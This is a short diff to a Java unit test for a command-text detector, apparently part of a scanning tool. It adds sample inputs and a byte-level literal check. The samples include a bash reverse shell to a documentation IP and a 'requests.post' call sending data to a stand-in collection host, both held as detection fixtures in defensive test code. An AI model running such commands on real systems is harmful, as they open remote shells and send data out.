@@ -2,6 +2,7 @@ package dev.assay.engine.text;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.nio.charset.StandardCharsets;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -18,10 +19,15 @@ class CommandTextTest {
                 "cmd.exe /c dir",
                 "x | bash",
                 "bash -i >& /dev/tcp/198.51.100.1/1",
-                "jax.jit(eval(code))"
+                "jax.jit(eval(code))",
+                "importlib.import_module('os')",
+                "requests.post('https://collect.example', data)"
             })
     void tellsWhatRunsSomething(String text) {
         assertThat(CommandText.find(text)).isPresent();
+        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
+        assertThat(new Literals(CommandText.marks()).isIn(bytes, 0, bytes.length))
+                .isTrue();
     }
 
     @ParameterizedTest
